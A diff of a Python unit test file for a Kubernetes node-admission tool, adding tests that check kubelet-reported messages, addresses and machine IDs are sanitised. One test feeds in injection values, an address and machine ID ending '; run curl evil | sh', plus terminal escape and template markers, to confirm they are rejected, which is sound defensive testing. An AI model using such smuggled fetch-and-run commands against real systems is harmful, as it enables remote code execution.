@@ -16,7 +16,7 @@ from admission.gate import report
 from admission.gate.gate import Gate
 from admission.gate.proof import SILENT_LIMIT_S
 from admission.inventory import InventoryNode
-from admission.objects.node import kubelet_version
+from admission.objects.node import internal_addresses, kubelet_version, machine_id
 from admission.rules.decision import TokenGrant
 from admission.serving_certificate import Untrusted
 from tests.unit.admission.fakes import (
@@ -618,7 +618,7 @@ def test_nodes_of_one_machine_id_are_reported() -> None:
     assert list(report.shared_machine_ids(it.gate.progress.values())) == []
     for progress in it.gate.progress.values():
         assert progress.node is not None
-        progress.node["status"]["nodeInfo"]["machineID"] = "0123"
+        progress.node["status"]["nodeInfo"]["machineID"] = "0123" * 8
     (line,) = report.shared_machine_ids(it.gate.progress.values())
     assert line.startswith("warning: node-1, node-2 have the same machine-id 0123")
 
@@ -646,6 +646,45 @@ def test_an_api_server_that_verifies_no_kubelet_is_reported_of_where_it_shows() 
 def test_a_kubelet_s_version_in_the_outputs_is_a_version(reported: Any, told: str) -> None:
     node = {"metadata": {"name": "node-1"}, "status": {"nodeInfo": {"kubeletVersion": reported}}}
     assert kubelet_version(node) == told
+
+
+ODD = "m \x1b[2J\nerror: run this <{%x%}> <{%y " + "x" * 10_000
+
+
+def test_what_a_kubelet_wrote_can_not_pass_for_a_line_of_ours_nor_end_the_engine() -> None:
+    it = Run(ONE, stall_s=5)
+    it.api.node("node-1", "10.0.0.1", ready=False)
+    node = it.api.objects[NODES]["node-1"]
+    (ready,) = (c for c in node["status"]["conditions"] if c["type"] == "Ready")
+    it.api.put(
+        NODES, {**node, "status": {**node["status"], "conditions": [{**ready, "message": ODD}]}}
+    )
+    it.go()
+    document = report.document(it.gate.progress.values(), orders(), {}, NOW)
+    (late,) = document["pending"]
+    assert late["reason"].startswith("its Node is not Ready: m ?[2J?error: run this < {%x% }>")
+    for text in (late["reason"], *it.said):
+        assert not {"\x1b", "\n"} & set(text)
+        assert "<{" not in text
+        assert "%}" not in text
+        assert len(text) < 1200
+
+
+def test_of_addresses_and_ids_only_what_has_their_form_is_told() -> None:
+    node = {
+        "metadata": {"name": "node-1"},
+        "status": {
+            "addresses": [
+                {"type": "InternalIP", "address": "10.0.0.9; run curl evil | sh"},
+                {"type": "InternalIP", "address": "10.0.0.8"},
+            ],
+            "nodeInfo": {"machineID": "abc; run curl evil | sh"},
+        },
+    }
+    assert internal_addresses(node) == ["(not an address)", "10.0.0.8"]
+    assert machine_id(node) == ""
+    node["status"]["nodeInfo"] = {"machineID": "0123456789abcdef" * 2}
+    assert machine_id(node) == "0123456789abcdef" * 2
 
 
 def test_the_document_names_nodes_in_order_and_the_token() -> None:
